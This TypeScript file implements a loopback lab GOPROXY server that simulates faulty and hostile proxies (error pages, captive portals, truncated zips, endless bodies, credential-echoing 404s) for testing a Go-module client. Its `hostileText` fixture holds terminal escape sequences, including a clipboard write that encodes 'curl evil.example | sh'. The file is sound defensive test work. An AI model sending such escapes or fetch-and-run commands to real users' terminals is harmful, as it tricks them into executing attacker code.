import {createServer, get as httpGet, type IncomingMessage, type ServerResponse} from 'node:http';
import {escapeModulePath, unescapeModulePath} from '../go/escape-module-path.js';
import {assertNever} from '../model/assert-never.js';
import {labModules} from './lab-modules.js';
import {createShutdown, listenOnLoopback, refusingLoopbackPort} from './loopback-server.js';
import {alterModule, buildModuleArtifacts, type LabModule, type ModuleArtifacts} from './module-zip.js';

/** The HTTP statuses a `status` fault can answer every request with. */
export const faultStatuses = [401, 403, 404, 410, 500, 502, 503, 504] as const;

/** An HTTP status a lab proxy can be made to answer every request with. */
export type FaultStatus = (typeof faultStatuses)[number];

/**
How a lab GOPROXY server misbehaves.
- `none`: a correct GOPROXY.
- `closed`: nothing listens on the port (connection refused).
- `hang`: the connection is accepted and the request read, but no answer ever comes.
- `status`: every request gets this status and a body like a real server's (nginx pages, plain-text errors).
- `slow`: correct answers after `delayMs`.
- `html`: every request gets 200 with a captive-portal HTML page.
- `altered-zip`: correct `.info`/`.mod`/`@v/list`, but zips with altered content (same versions).
- `altered-mod`: correct everything but the `.mod` files, which carry a line the original go.mod lacks (a mirror
  serving altered content that still looks like a go.mod); answers after `delayMs` when given.
- `steady`: a correct GOPROXY on a slow line: everything but the zips is answered at once, and the zips one
  at a time, `intervalMs` apart (a download that takes long and keeps progressing).
- `truncated-zip`: correct everything, but each zip is cut short: the answer announces the zip's length
  (`Content-Length`) and the connection closes after half of it.
- `prefix-mapping`: a reverse proxy whose `location PREFIX/` passes the prefix on to the backend (nginx's
  `proxy_pass` without the trailing slash): every path under `prefix` answers nginx's 404, while the same paths
  without the prefix are served. GOPROXY names `URL + prefix`, so go gets 404 for everything.
- `long-list`: correct, but every `@v/list` also lists `versions` made-up versions (`v0.I.J`) before the real ones.
- `escape-body`: every request gets `status` and a body of terminal escapes (a title change, a clipboard write, a
  link, a screen clear, C1 controls, a bidi override), as a hostile or broken server might send.
- `endless-body`: version lists are correct, every other request gets 200 and a body that never ends.
- `echo-headers`: every request gets 404 and a body that echoes the request's headers, raw and as a JSON map,
  as some debugging servers do (credentials included).
*/
export type GoproxyFault =
	| {readonly kind: 'none'}
	| {readonly kind: 'closed'}
	| {readonly kind: 'hang'}
	| {readonly kind: 'status'; readonly status: FaultStatus}
	| {readonly kind: 'slow'; readonly delayMs: number}
	| {readonly kind: 'html'}
	| {readonly kind: 'altered-zip'}
	| {readonly kind: 'altered-mod'; readonly delayMs?: number}
	| {readonly kind: 'steady'; readonly intervalMs: number}
	| {readonly kind: 'truncated-zip'}
	| {readonly kind: 'prefix-mapping'; readonly prefix: string}
	| {readonly kind: 'long-list'; readonly versions: number}
	| {readonly kind: 'escape-body'; readonly status: FaultStatus}
	| {readonly kind: 'echo-headers'}
	| {readonly kind: 'endless-body'};

export type GoproxyServerOptions = {
	/** @default {kind: 'none'} */
	readonly fault?: GoproxyFault;
	/** The module versions served. @default labModules */
	readonly modules?: readonly LabModule[];
	/**
	A checksum database this proxy proxies (`/sumdb/<name>/supported` answers 200, `/sumdb/<name>/...` is relayed to
	`url`), as proxy.golang.org does for sum.golang.org. Only a proxy without a fault (or serving altered zips) does.
	*/
	readonly sumdb?: {readonly name: string; readonly url: string};
	/**
	How the server answers for a module or a version it does not have (`missingAnswers`): proxy.golang.org's 404
	(the default), or a 403/410 with the body a real proxy sends.
	*/
	readonly missing?: MissingAnswer;
};

/** How a lab proxy answers a request for a module (`version` undefined: its list or @latest) or version it lacks. */
export type MissingAnswer = {
	readonly status: 403 | 404 | 410;
	readonly body: (modulePath: string, version?: string) => string;
};

/**
What real proxies answer for what they lack, measured: proxy.golang.org's 404 (for a module it cannot find it relays
git's own failure, "terminal prompts disabled" and all, though the repository simply does not exist), and the 403
"This module version is not available." that a proxy refusing a module sends (the proxy.golang.org this project is
developed behind, and Artifactory or Nexus for a module they do not have). Neither asks for credentials.
*/
export const missingAnswers = {
	proxyGolangOrg: {
		status: 404,
		body: (modulePath, version) =>
			version === undefined
				? `not found: module ${modulePath}: git ls-remote -q origin in /tmp/gopath/pkg/mod/cache/vcs/0b1a5e: exit status 128:\n\tfatal: could not read Username for 'https://${modulePath.split('/')[0] ?? ''}': terminal prompts disabled\nConfirm the import path was typed correctly.\nIf this is a private repository, see https://golang.org/doc/faq#git_https for additional information.\n`
				: `not found: ${modulePath}@${version}: invalid version: unknown revision ${version}\n`,
	},
	notAvailable: {status: 403, body: () => 'This module version is not available.\n'},
} as const satisfies Readonly<Record<string, MissingAnswer>>;

/** One request the server received, in arrival order. */
export type GoproxyRequestRecord = {
	readonly method: string;
	/**
	The request target as sent, e.g. `/example.com/lab/hello/@v/v1.0.0.info`. Not decoded: go sends the `!` of
	the case-encoding as `%21` (`/example.com/lab/%21upper%21case/@v/list`).
	*/
	readonly path: string;
	/** The status answered; undefined while unanswered (and forever under `hang`). */
	readonly status: number | undefined;
};

/** A running lab GOPROXY server. */
export type GoproxyServer = {
	/** `http://127.0.0.1:PORT`, without a trailing slash: usable as a GOPROXY entry. */
	readonly url: string;
	readonly port: number;
	readonly fault: GoproxyFault;
	/** Every request received so far (empty under `closed`: nothing listens). */
	readonly requests: readonly GoproxyRequestRecord[];
	/** Stops listening and destroys open connections at once (hung and slow ones included). */
	close(): Promise<void>;
};

type MutableRecord = {method: string; path: string; status: number | undefined};

type Answer = {
	readonly status: number;
	/** The reason phrase of the status line, when the server is not node's default (nginx says `Gateway Time-out`). */
	readonly reason?: string;
	readonly headers: Readonly<Record<string, string>>;
	readonly body: string | Uint8Array;
};

const host = '127.0.0.1';

/** Starts a GOPROXY server on 127.0.0.1 on a random free port, misbehaving as `options.fault` says. */
export async function startGoproxyServer(options: GoproxyServerOptions = {}): Promise<GoproxyServer> {
	const fault = options.fault ?? {kind: 'none'};
	if (fault.kind === 'closed') {
		return closedPortServer(fault);
	}

	const modules = options.modules ?? labModules;
	const served = (fault.kind === 'altered-zip' ? modules.map((module) => alterModule(module)) : modules).map((module) =>
		buildModuleArtifacts(module),
	);
	const original = modules.map((module) => buildModuleArtifacts(module));
	const catalog = new ModuleCatalog(
		served.map((artifacts, index) => ({
			...artifacts,
			// An altered zip keeps the original go.mod, so the module graph still loads and only the zip differs.
			mod:
				fault.kind === 'altered-mod'
					? `${artifacts.mod}// This line is not in the original go.mod.\n`
					: (original[index]?.mod ?? artifacts.mod),
		})),
		options.missing,
	);

	const requests: MutableRecord[] = [];
	const shutdown = createShutdown();
	const {timers} = shutdown;
	const later = (ms: number, action: () => void) => {
		const timer = setTimeout(() => {
			timers.delete(timer);
			action();
		}, ms);
		timers.add(timer);
	};

	const lab: LabProxyState = {options, fault, catalog, requests, timers, later, pacing: {lastZipAt: 0}};
	const server = createServer((request: IncomingMessage, response: ServerResponse) => {
		answerRequest(lab, request, response);
	});
	shutdown.watch(server);
	// A hung request must not be cut off by node's own request timeout while a test watches go wait.
	server.requestTimeout = 0;
	server.headersTimeout = 0;

	const port = await listenOnLoopback(server, 'lab proxy');
	return {
		url: `http://${host}:${port}`,
		port,
		fault,
		requests,
		close: shutdown.close,
	};
}

/** What the lab proxy's requests are answered from. */
type LabProxyState = {
	readonly options: GoproxyServerOptions;
	readonly fault: Exclude<GoproxyFault, {kind: 'closed'}>;
	readonly catalog: ModuleCatalog;
	readonly requests: MutableRecord[];
	readonly timers: Set<NodeJS.Timeout>;
	readonly later: (ms: number, action: () => void) => void;
	/** `steady`: when the last zip queued is sent. */
	readonly pacing: {lastZipAt: number};
};

/** Answers one request as the fault says. */
function answerRequest(lab: LabProxyState, request: IncomingMessage, response: ServerResponse): void {
	const {options, fault, catalog, requests, timers, later} = lab;
	const record: MutableRecord = {method: request.method ?? 'GET', path: request.url ?? '/', status: undefined};
	requests.push(record);
	const send = (answer: Answer): void => {
		sendAnswer(record, response, answer);
	};

	const exchange: Exchange = {request, response, record, send, catalog, later};

	const sumdbPrefix = options.sumdb === undefined ? undefined : `/sumdb/${options.sumdb.name}/`;
	if (
		sumdbPrefix !== undefined &&
		options.sumdb !== undefined &&
		(fault.kind === 'none' || fault.kind === 'altered-zip') &&
		record.path.startsWith(sumdbPrefix)
	) {
		const rest = record.path.slice(sumdbPrefix.length);
		if (rest === 'supported') {
			send({status: 200, headers: textHeaders, body: ''});
			return;
		}

		relay(`${options.sumdb.url}/${rest}`, send);
		return;
	}

	switch (fault.kind) {
		case 'hang': {
			// Never answer; close() destroys the socket.
			return;
		}

		case 'status': {
			send(faultAnswer(fault.status));
			return;
		}

		case 'html': {
			send(captivePortalAnswer());
			return;
		}

		case 'slow':
		case 'altered-mod': {
			const timer = setTimeout(() => {
				timers.delete(timer);
				send(catalog.answer(request.method ?? 'GET', record.path));
			}, fault.delayMs ?? 0);
			timers.add(timer);
			return;
		}

		case 'none':
		case 'altered-zip': {
			send(catalog.answer(request.method ?? 'GET', record.path));
			return;
		}

		case 'long-list': {
			const answer = catalog.answer(request.method ?? 'GET', record.path);
			send(
				record.path.endsWith('/@v/list') && answer.status === 200
					? {...answer, body: madeUpVersions(fault.versions) + String(answer.body)}
					: answer,
			);
			return;
		}

		case 'escape-body': {
			send({status: fault.status, headers: textHeaders, body: hostileText});
			return;
		}

		case 'endless-body': {
			sendEndlessBody(exchange);
			return;
		}

		case 'echo-headers': {
			echoHeaders(exchange);
			return;
		}

		case 'steady': {
			const answer = catalog.answer(request.method ?? 'GET', record.path);
			if (!record.path.endsWith('.zip')) {
				send(answer);
				return;
			}

			lab.pacing.lastZipAt = Math.max(Date.now(), lab.pacing.lastZipAt) + fault.intervalMs;
			later(lab.pacing.lastZipAt - Date.now(), () => {
				send(answer);
			});
			return;
		}

		case 'truncated-zip': {
			sendTruncatedZip(exchange);
			return;
		}

		case 'prefix-mapping': {
			// The backend receives `/prefix/example.com/…` and knows no such module: nginx relays its 404.
			send(record.path.startsWith(`${fault.prefix}/`) ? faultAnswer(404) : catalog.answer(request.method ?? 'GET', record.path));
			return;
		}

		default: {
			assertNever(fault);
		}
	}
}

/** Sends a whole answer, with its length, and records its status. */
function sendAnswer(record: MutableRecord, response: ServerResponse, answer: Answer): void {
	record.status = answer.status;
	const body = typeof answer.body === 'string' ? Buffer.from(answer.body, 'utf8') : answer.body;
	const headers = {...answer.headers, 'Content-Length': String(body.byteLength)};
	if (answer.reason === undefined) {
		response.writeHead(answer.status, headers);
	} else {
		response.writeHead(answer.status, answer.reason, headers);
	}

	response.end(body);
}

/** One request, its response, and how it is answered. */
type Exchange = {
	readonly request: IncomingMessage;
	readonly response: ServerResponse;
	readonly record: MutableRecord;
	readonly send: (answer: Answer) => void;
	readonly catalog: ModuleCatalog;
	readonly later: (ms: number, action: () => void) => void;
};

/** A body that never ends: the list answers, anything else streams forever. */
function sendEndlessBody({request, response, record, send, catalog}: Exchange): void {
	if (record.path.endsWith('/@v/list')) {
		send(catalog.answer(request.method ?? 'GET', record.path));
		return;
	}

	record.status = 200;
	response.writeHead(200, {'Content-Type': 'application/octet-stream'});
	const chunk = Buffer.alloc(256 * 1024, 0x41);
	const pump = (): void => {
		while (!response.destroyed && response.write(chunk)) {
			// Until the socket's buffer is full; then on 'drain'.
		}
	};

	response.on('drain', pump);
	pump();
}

/** A 404 that quotes the request's headers back, credentials and all, as some servers do. */
function echoHeaders({request, record, send}: Exchange): void {
	const lines = Object.entries(request.headers).map(([name, value]) => `${name}: ${String(value)}`);
	const map = JSON.stringify(Object.fromEntries(Object.entries(request.headers).map(([name, value]) => [name, [String(value)]])));
	// Some also decode the credentials, and quote them URL-encoded.
	const basic = /^basic\s+(\S+)/i.exec(String(request.headers.authorization ?? ''))?.[1];
	const decoded = basic === undefined ? '' : Buffer.from(basic, 'base64').toString('utf8');
	const who = decoded === '' ? '' : `you are ${decoded} (${encodeURIComponent(decoded)}); proxy-authorization=Basic ${basic}\n`;
	send({status: 404, headers: textHeaders, body: `not found: ${record.path}\n${who}${map}\nyour request:\n${lines.join('\n')}\n`});
}

/** A zip cut in half: the announced length, half the bytes, then the connection closes. */
function sendTruncatedZip({request, response, record, send, catalog, later}: Exchange): void {
	const answer = catalog.answer(request.method ?? 'GET', record.path);
	if (!record.path.endsWith('.zip') || answer.status !== 200 || typeof answer.body === 'string') {
		send(answer);
		return;
	}

	record.status = answer.status;
	response.writeHead(answer.status, {...answer.headers, 'Content-Length': String(answer.body.byteLength)});
	response.write(answer.body.subarray(0, Math.floor(answer.body.byteLength / 2)));
	// Closed once what was written has left: the client reads half the announced length, then EOF.
	later(50, () => {
		response.socket?.destroy();
	});
}

/** Relays a GET to a loopback server (the lab's checksum database) and sends back what it answered. */
function relay(url: string, send: (answer: Answer) => void): void {
	httpGet(url, (upstream) => {
		const chunks: Buffer[] = [];
		upstream.on('data', (chunk: Buffer) => {
			chunks.push(chunk);
		});
		upstream.on('end', () => {
			send({
				status: upstream.statusCode ?? 502,
				headers: {'Content-Type': upstream.headers['content-type'] ?? 'text/plain; charset=utf-8'},
				body: Buffer.concat(chunks),
			});
		});
	}).on('error', (error) => {
		send({status: 502, headers: textHeaders, body: `bad gateway: ${error.message}\n`});
	});
}

/** A port on which nothing listens: bind port 0, note the port, close the listener. */
async function closedPortServer(fault: GoproxyFault): Promise<GoproxyServer> {
	const port = await refusingLoopbackPort('lab proxy');
	return {
		url: `http://${host}:${port}`,
		port,
		fault,
		requests: [],
		async close() {
			// Nothing listens.
		},
	};
}

/** The GOPROXY protocol over a fixed set of module versions. */
class ModuleCatalog {
	readonly #byPath = new Map<string, ModuleArtifacts[]>();
	readonly #missing: MissingAnswer | undefined;

	constructor(artifacts: readonly ModuleArtifacts[], missing?: MissingAnswer) {
		this.#missing = missing;
		for (const item of artifacts) {
			const versions = this.#byPath.get(item.path) ?? [];
			versions.push(item);
			this.#byPath.set(item.path, versions);
		}

		for (const versions of this.#byPath.values()) {
			versions.sort((a, b) => compareSemver(a.version, b.version));
		}
	}

	answer(method: string, target: string): Answer {
		if (method !== 'GET' && method !== 'HEAD') {
			return {status: 405, headers: {...textHeaders, Allow: 'GET, HEAD'}, body: 'method not allowed\n'};
		}

		let pathname: string;
		try {
			// Go percent-encodes `!` (and other reserved characters) in the path: `/example.com/%21upper/@v/list`.
			pathname = decodeURIComponent(target.split('?')[0] ?? '');
		} catch {
			return {status: 400, headers: textHeaders, body: 'bad request: malformed percent-encoding\n'};
		}

		const request = parseProxyPath(pathname);
		if (request === undefined) {
			return notFound(`not found: ${pathname} is not a GOPROXY path`);
		}

		if (request === 'invalid') {
			return {status: 400, headers: textHeaders, body: 'bad request: invalid escaped module path or version\n'};
		}

		const versions = this.#byPath.get(request.modulePath);
		if (request.kind === 'list') {
			// Real proxies differ here (some answer 200 with an empty list); a 404 is what go handles best.
			if (versions === undefined) {
				return this.#lacks(request.modulePath) ?? notFound(`not found: module ${request.modulePath}: no versions on this lab proxy`);
			}

			return {status: 200, headers: textHeaders, body: versions.map((item) => `${item.version}\n`).join('')};
		}

		if (request.kind === 'latest') {
			const latest = versions?.findLast((item) => !item.version.includes('-')) ?? versions?.at(-1);
			if (latest === undefined) {
				return (
					this.#lacks(request.modulePath) ?? notFound(`not found: module ${request.modulePath}: no matching versions for query "latest"`)
				);
			}

			return {status: 200, headers: jsonHeaders, body: latest.info};
		}

		const item = versions?.find((candidate) => candidate.version === request.version);
		if (item === undefined) {
			return (
				this.#lacks(request.modulePath, request.version) ??
				notFound(`not found: ${request.modulePath}@${request.version}: invalid version: unknown revision ${request.version}`)
			);
		}

		switch (request.kind) {
			case 'info': {
				return {status: 200, headers: jsonHeaders, body: item.info};
			}

			case 'mod': {
				return {status: 200, headers: textHeaders, body: item.mod};
			}

			case 'zip': {
				return {status: 200, headers: {'Content-Type': 'application/zip'}, body: item.zip};
			}

			default: {
				return assertNever(request);
			}
		}
	}

	/** A missing module or version answered as `missing` says (undefined: the default 404). */
	#lacks(modulePath: string, version?: string): Answer | undefined {
		return this.#missing === undefined
			? undefined
			: {status: this.#missing.status, headers: textHeaders, body: this.#missing.body(modulePath, version)};
	}
}

type ProxyPathRequest =
	| {readonly kind: 'list'; readonly modulePath: string}
	| {readonly kind: 'latest'; readonly modulePath: string}
	| {readonly kind: 'info' | 'mod' | 'zip'; readonly modulePath: string; readonly version: string};

/**
Reads `/<escaped path>/@v/list`, `/@v/<escaped version>.info|.mod|.zip` and `/<escaped path>/@latest`.
Undefined when the path is not a GOPROXY path at all; `invalid` when its escaping is wrong.
*/
export function parseProxyPath(pathname: string): ProxyPathRequest | 'invalid' | undefined {
	if (!pathname.startsWith('/')) {
		return undefined;
	}

	const rest = pathname.slice(1);
	if (rest.endsWith('/@latest')) {
		const modulePath = unescapeModulePath(rest.slice(0, -'/@latest'.length));
		return modulePath === undefined || modulePath === '' ? 'invalid' : {kind: 'latest', modulePath};
	}

	const marker = rest.lastIndexOf('/@v/');
	if (marker <= 0) {
		return undefined;
	}

	const modulePath = unescapeModulePath(rest.slice(0, marker));
	const file = rest.slice(marker + '/@v/'.length);
	if (modulePath === undefined) {
		return 'invalid';
	}

	if (file === 'list') {
		return {kind: 'list', modulePath};
	}

	const match = /^(.+)\.(info|mod|zip)$/.exec(file);
	if (match === null) {
		return undefined;
	}

	const version = unescapeModulePath(match[1] ?? '');
	const kind = match[2] as 'info' | 'mod' | 'zip';
	return version === undefined ? 'invalid' : {kind, modulePath, version};
}

/** The URL path go requests for a module file, e.g. `/example.com/!upper/@v/v1.0.0.zip`. */
export function proxyPathFor(
	modulePath: string,
	file: {readonly version: string; readonly kind: 'info' | 'mod' | 'zip'} | 'list' | 'latest',
): string {
	const escaped = escapeModulePath(modulePath);
	if (file === 'list') {
		return `/${escaped}/@v/list`;
	}

	if (file === 'latest') {
		return `/${escaped}/@latest`;
	}

	return `/${escaped}/@v/${escapeModulePath(file.version)}.${file.kind}`;
}

const textHeaders = {'Content-Type': 'text/plain; charset=utf-8'} as const;
const jsonHeaders = {'Content-Type': 'application/json'} as const;

function notFound(message: string): Answer {
	return {status: 404, headers: textHeaders, body: `${message}\n`};
}

/** Nginx's status lines (ngx_http_status_lines): some differ from node's reason phrases. */
const nginxReasons: Readonly<Record<FaultStatus, string>> = {
	401: 'Unauthorized',
	403: 'Forbidden',
	404: 'Not Found',
	410: 'Gone',
	500: 'Internal Server Error',
	502: 'Bad Gateway',
	503: 'Service Temporarily Unavailable',
	504: 'Gateway Time-out',
};

/** The page nginx sends for an error status (as in nginx 1.24's ngx_http_special_response.c). */
function nginxPage(status: FaultStatus): string {
	const title = status === 401 ? '401 Authorization Required' : `${status} ${nginxReasons[status]}`;
	return `<html>\r\n<head><title>${title}</title></head>\r\n<body>\r\n<center><h1>${title}</h1></center>\r\n<hr><center>nginx/1.24.0</center>\r\n</body>\r\n</html>\r\n`;
}

/**
What a real server in front of or instead of a GOPROXY answers with each status:
nginx pages where nginx decides (basic auth, a reverse proxy whose upstream is down or whose path mapping is
wrong), plain text where a Go proxy (Athens, goproxy) answers with `http.Error`.
*/
export function faultAnswer(status: FaultStatus): Answer {
	const nginx = {'Content-Type': 'text/html', Server: 'nginx/1.24.0'};
	const reason = nginxReasons[status];
	switch (status) {
		case 401: {
			return {status, reason, headers: {...nginx, 'WWW-Authenticate': 'Basic realm="Go modules"'}, body: nginxPage(status)};
		}

		case 403: {
			return {status, headers: textHeaders, body: 'forbidden: this GOPROXY does not serve requests from your address\n'};
		}

		case 410: {
			return {status, headers: textHeaders, body: 'gone: this mirror no longer serves modules\n'};
		}

		case 500: {
			return {status, headers: textHeaders, body: 'Internal Server Error\n'};
		}

		case 404:
		case 502:
		case 503:
		case 504: {
			return {status, reason, headers: nginx, body: nginxPage(status)};
		}

		default: {
			return assertNever(status);
		}
	}
}

/** `count` made-up versions, one a line: `v0.0.0` … `v0.99.999` … (a thousand per minor version). */
function madeUpVersions(count: number): string {
	const lines: string[] = [];
	for (let index = 0; index < count; index++) {
		lines.push(`v0.${Math.floor(index / 1000)}.${index % 1000}\n`);
	}

	return lines.join('');
}

/**
Terminal escapes a hostile server can send: OSC 0 (window title), OSC 52 (clipboard write), OSC 8 (a link),
CSI 2J (clear the screen), the C1 forms of CSI and OSC (U+009B, U+009D), DEL and a bidi override (U+202E).
*/
export const hostileText = [
	'upstream error \u001B]0;PWNED-TITLE\u0007',
	'\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007clipboard',
	'\u001B]8;;https://evil.example/\u0007click here\u001B]8;;\u0007',
	'\u001B[2J\u001B[Hscreen cleared',
	'\u009B31mC1 CSI\u009D0;c1-title\u009C',
	'del\u007F and bell\u0007 and backspace\u0008',
	'file \u202Egnp.exe\u202C and isolate \u2066x\u2069',
	'',
].join('\n');

/** A hotel or airport network's login page, returned with 200 for any URL. */
function captivePortalAnswer(): Answer {
	const body = [
		'<!DOCTYPE html>',
		'<html lang="en">',
		'<head>',
		'<meta charset="utf-8">',
		'<title>Guest Wi-Fi - Sign in</title>',
		'<meta http-equiv="refresh" content="0; url=http://portal.guest-wifi.invalid/login">',
		'</head>',
		'<body>',
		'<h1>Welcome to Guest Wi-Fi</h1>',
		'<p>Please accept the terms of use to continue to the internet.</p>',
		'<form method="post" action="http://portal.guest-wifi.invalid/login"><button>Accept and connect</button></form>',
		'</body>',
		'</html>',
		'',
	].join('\n');
	return {status: 200, headers: {'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store'}, body};
}

/**
Orders canonical semantic versions (`vMAJOR.MINOR.PATCH[-pre]`), pre-releases before their release.
Pre-release suffixes are compared as plain strings: enough for the lab's own versions.
*/
export function compareSemver(a: string, b: string): number {
	const parse = (version: string) => {
		const [core = '', pre] = version.replace(/^v/, '').replace(/\+.*$/s, '').split(/-(.*)/s);
		return {numbers: core.split('.').map(Number), pre};
	};

	const left = parse(a);
	const right = parse(b);
	for (let index = 0; index < 3; index++) {
		const difference = (left.numbers[index] ?? 0) - (right.numbers[index] ?? 0);
		if (difference !== 0) {
			return difference;
		}
	}

	if (left.pre === right.pre) {
		return 0;
	}

	if (left.pre === undefined) {
		return 1;
	}

	if (right.pre === undefined) {
		return -1;
	}

	return left.pre < right.pre ? -1 : 1;
}
